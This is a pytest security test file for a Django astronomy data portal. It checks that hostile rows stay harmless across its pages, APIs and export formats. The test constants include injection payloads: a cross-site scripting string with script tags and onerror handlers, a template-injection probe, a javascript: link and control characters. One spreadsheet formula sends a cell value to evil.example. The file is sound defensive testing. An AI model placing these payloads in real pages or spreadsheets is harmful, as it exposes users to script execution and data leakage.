"""Rows that say what nobody would, through the real store: shown or refused harmlessly at every address.

Each answer is read as its reader would: pages by a parser of HTML, files by the library of their format.
"""

import ast
import csv
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from io import BytesIO, StringIO
from typing import Any, NoReturn
from urllib.parse import quote, urlencode

import nbformat
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from astropy.io import fits, votable
from astropy.table import Table
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from mastportal.desk.models import SavedSearch
from mastportal.desk.programmes import programme_of
from mastportal.mast.arrow import page_table
from mastportal.mast.fields import fields_of
from mastportal.search import keep, results
from mastportal.search.models import ResultSet, Search
from mastportal.work import Phase
from tests.people import client_of

EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{ 7|add:7 }}'''\"\"\"\n]]>*/-->"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
LONG = "M" * 100_000
CONTROL = "\x00\x07\x1b]0;x\x07\u202e\ufffe\r\n-1+1"
LINK = "javascript:alert(1)"
TEXTS = (EVIL, FORMULA, LONG, CONTROL, LINK, "", None)
NUMBERS = (np.nan, np.inf, -np.inf, 1e308, -1e308, -0.0, None)
WHOLE = (2**62, -1, None, 0, 3, -999, 1)
SQUARE = "10 20 10 21 11 21 11 20"
REGIONS = (
    EVIL,
    f"POLYGON {SQUARE}",  # the wrong way round: all the sky but a square, were it believed
    "POLYGON " + " ".join(f"{n / 100} {n % 7}" for n in range(9_000)),  # crosses itself, a hundred kilobytes
    "POLYGON NAN NAN INFINITY -INFINITY 1E999 0",
    "CIRCLE 10 20 720",
    FORMULA,
    None,
)
ROWS = len(TEXTS)
HTMX = {"HTTP_HX_REQUEST": "true"}
FETCHING = ("src", "href", "action", "hx-get", "hx-post", "formaction", "data")
PAGE_MOST = 1_500_000


def rows() -> pa.Table:
    """Every text, number and outline in every column that could hold it."""
    fields = fields_of("observations")
    texts = [{field.name: text for field in fields if field.type == "string"} for text in TEXTS]
    table = page_table(
        {"data": [row | {"s_region": region} for row, region in zip(texts, REGIONS, strict=True)]}, fields
    )
    columns: dict[str, Any] = {"s_ra": (*NUMBERS[:2], 10, 359.999999, -10, 720, None)}
    columns |= {"s_dec": (*NUMBERS[:2], 20, 90, -90, 91, None), "t_max": (60_000, *NUMBERS[1:])}
    for place, field in enumerate(table.schema):
        if not pa.types.is_string(field.type):
            values = columns.get(field.name, NUMBERS if pa.types.is_floating(field.type) else WHOLE)
            table = table.set_column(place, field, pa.array(values, from_pandas=False).cast(field.type))
    return table


@pytest.fixture
def search(alice: User, sandbox: object) -> Search:
    """A programme's question answered with such rows, by a real snapshot in the real store."""
    asked = results.ask(programme_of("JWST", "1176").question, alice)
    keep.write_chunk(asked.result.pk, 0, rows())
    done = {
        "phase": Phase.COMPLETED,
        "row_count": ROWS,
        "started_at": timezone.now(),
        "ended_at": timezone.now(),
    }
    ResultSet.objects.filter(pk=asked.result.pk).update(**done)
    Search.objects.filter(pk=asked.search.pk).update(current=asked.result, words=f"Rows of {EVIL}")
    SavedSearch.objects.create(name=EVIL[:100], note=EVIL, owner=alice, search=asked.search)
    return Search.objects.get(pk=asked.search.pk)


class Reader(HTMLParser):
    """Complains of everything in a page that would run, be fetched from elsewhere, or lead to a script."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = {name: value or "" for name, value in attrs}
        if tag == "script":
            assert told.get("type") == "application/json" or told.get("src", "").startswith("/static/"), told
        assert not [name for name in told if name.startswith("on") or name == "style"], told
        addresses = {name: told[name].strip().casefold() for name in FETCHING if name in told}
        assert not [each for each in addresses.values() if each.startswith(("javascript:", "data:text"))], (
            told
        )
        if tag in ("img", "iframe", "object", "embed"):
            assert addresses.get("src", "/").startswith("/"), told

    def handle_data(self, data: str) -> None:
        assert "14'''" not in data, "a template ran in a value"


def page(body: bytes) -> None:
    text = body.decode()
    assert len(text) < PAGE_MOST, f"{len(text)} characters of page"
    reader = Reader()
    reader.feed(text)
    reader.close()
    assert "Traceback" not in text


def no_number(name: str) -> NoReturn:
    raise AssertionError(f"{name} is not JSON")


def strict_json(body: bytes) -> None:
    json.loads(body, parse_constant=no_number)


def spreadsheet(body: bytes) -> None:
    lines = list(csv.reader(StringIO(body.decode(), newline="")))
    assert len(lines) == 1 + ROWS
    cells = [cell for line in lines for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert all(isinstance(float(cell), float) for cell in cells)


def points(body: bytes) -> None:
    length = int.from_bytes(body[:4], "little")
    header = json.loads(body[4 : 4 + length], parse_constant=no_number)
    for each in header["arrays"]:
        found = np.frombuffer(body, f"<{each['type']}", each["length"], 4 + length + each["offset"])
        assert np.isfinite(found).all()


def xml(body: bytes) -> None:
    assert votable.parse_single_table(BytesIO(body)).nrows == ROWS


def fits_table(body: bytes) -> None:
    with fits.open(BytesIO(body)) as hdus:
        assert len(hdus[1].data) == ROWS


def ecsv(body: bytes) -> None:
    assert len(Table.read(BytesIO(body), format="ascii.ecsv")) == ROWS


def parquet(body: bytes) -> None:
    assert pq.read_table(BytesIO(body)).num_rows == ROWS


def program(body: bytes) -> None:
    """Nothing but calls of ours: no value of a row has become a statement."""
    assert "alert" not in [each.id for each in ast.walk(ast.parse(body)) if isinstance(each, ast.Name)]


def notebook(body: bytes) -> None:
    book = nbformat.reads(body.decode(), as_version=4)
    nbformat.validate(book)
    for cell in book.cells:
        if cell.cell_type == "code":
            program(cell.source.encode())
        else:
            assert not re.search(r"(?<!\\)<(?!http)", cell.source), "Markdown takes it for HTML"


def anything(body: bytes) -> None:
    assert b"Traceback" not in body


RESULT, API = "/results/{search}/", "/api/v1/searches/{search}/"
COLUMNS = "columns=" + ",".join(field.name for field in fields_of("observations"))
VALUES = urlencode(
    {"f.target_name": EVIL, "not.filters": FORMULA, "q": "<b>", "like.obs_title": "*<script*"},
    quote_via=quote,
)
ADDRESSES: list[tuple[str, Callable[[bytes], None]]] = [
    (RESULT, page),
    (f"{RESULT}?{COLUMNS}&more=1&sort=-t_min,target_name", page),
    (f"{RESULT}?view=album", page),
    (f"{RESULT}?fold=target_name&more=1", page),
    (f"{RESULT}?{VALUES}", page),
    *((f"{RESULT}rows/{{result}}/{number}", page) for number in range(ROWS)),
    ("/results/", page),
    ("/programmes/JWST/1176/", page),
    ("/saved/", page),
    ("/saved/menu", page),
    (f"/saved/new?search={{search}}&then={quote(VALUES)}", page),
    ("/", page),
    (f"{API}rows?{COLUMNS}", strict_json),
    (f"{API}facets?fold=target_name", strict_json),
    *((f"{API}footprints?colour_by={name}", strict_json) for name in ("mission", "filter", "access")),
    (f"{API}footprints?region=circle+10+20+5&sky={quote(f'polygon {SQUARE}')}", strict_json),
    (f"{API}keys", strict_json),
    (f"{API}place?key={quote(EVIL)}", strict_json),
    (f"{API}link?format=votable", strict_json),
    (f"{API}points?x=t_min&y=t_exptime&colour=target_name&log=y", points),
    (f"{API}points?x=t_min&end=t_max&lane=target_name&colour=t_exptime", points),
    (f"{API}points/row?row=0", strict_json),
    ("/api/v1/programmes/JWST/1176", strict_json),
    ("/api/v1/searches", strict_json),
    ("/api/v1/saved-searches", strict_json),
    (f"{API}export?format=csv&{COLUMNS}", spreadsheet),
    (f"{API}export?format=json&{COLUMNS}", strict_json),
    (f"{API}export?format=votable&{COLUMNS}", xml),
    (f"{API}export?format=fits&{COLUMNS}", fits_table),
    (f"{API}export?format=ecsv&{COLUMNS}", ecsv),
    (f"{API}export?format=parquet&{COLUMNS}", parquet),
    (f"{API}code?format=py&{VALUES}", program),
    (f"{API}code?format=ipynb&{VALUES}", notebook),
    ("/previews/{result}/4", anything),
    (f"{RESULT}rows/{{result}}/0/products", anything),
]


def asked(web: Client, search: Search, address: str, **headers: str) -> Any:
    return web.get(address.format(search=search.pk, result=search.current_id), **headers)


@pytest.mark.parametrize(
    ("address", "read"), ADDRESSES, ids=lambda each: getattr(each, "__name__", str(each)[:60])
)
def test_every_address_survives_hostile_rows(
    web: Client, search: Search, address: str, read: Callable[[bytes], None]
) -> None:
    answer = asked(web, search, address)
    assert answer.status_code == (404 if read is anything else 200), answer.content[:300]
    read(b"".join(answer.streaming_content) if answer.streaming else answer.content)
    if read is page:
        fragment = asked(web, search, address, **HTMX)
        page(fragment.content)


@pytest.mark.parametrize("format", ["votable", "fits"])
def test_another_program_fetches_them_too(web: Client, search: Search, format: str) -> None:
    """What SAMP hands on is an address; whoever fetches it need not sign in."""
    address = asked(web, search, f"{API}link?format={format}").json()["url"]
    answer = Client().get(address)
    assert answer.status_code == 200
    {"votable": xml, "fits": fits_table}[format](b"".join(answer.streaming_content))


def test_a_row_without_a_number_of_its_own_stays_out_of_a_basket(alice: User, search: Search) -> None:
    api = client_of(alice)
    basket = api.post("/api/v1/baskets", {"name": EVIL[:80]}, format="json").json()
    body = {"search": str(search.pk), "filters": ""}
    answer = api.post(f"/api/v1/baskets/{basket['id']}/observations", body, format="json")
    assert answer.status_code == 400, answer.content
    assert "no number of an observation" in answer.json()["error"]["message"]
